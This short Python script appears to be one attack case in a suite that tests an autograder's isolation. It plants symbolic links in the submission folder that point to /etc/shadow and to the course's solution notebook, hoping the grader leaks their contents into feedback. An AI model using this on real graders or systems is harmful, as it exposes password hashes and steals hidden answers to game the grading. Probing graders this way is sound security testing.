"""Leaves symbolic links in the working folder to hidden files, hoping the grader copies their content into the feedback."""
# class: files
# base: cut_one_merge_too_many
# cell: cut
# control: open
# uses: report
import os

_facts = {"linked": [], "errors": []}
for _name, _target in (("leak-source.txt", "__COURSE__/source/lab1_linkage/lab1_linkage.ipynb"),
                       ("leak-shadow.txt", "/etc/shadow")):
    for _folder in {os.getcwd(), "/run/submission"}:
        try:
            os.symlink(_target, os.path.join(_folder, _name))
            _facts["linked"].append(os.path.join(_folder, _name))
        except OSError as exc:
            _facts["errors"].append(f"{_folder}/{_name}: {exc}")
_attack_report(**_facts)
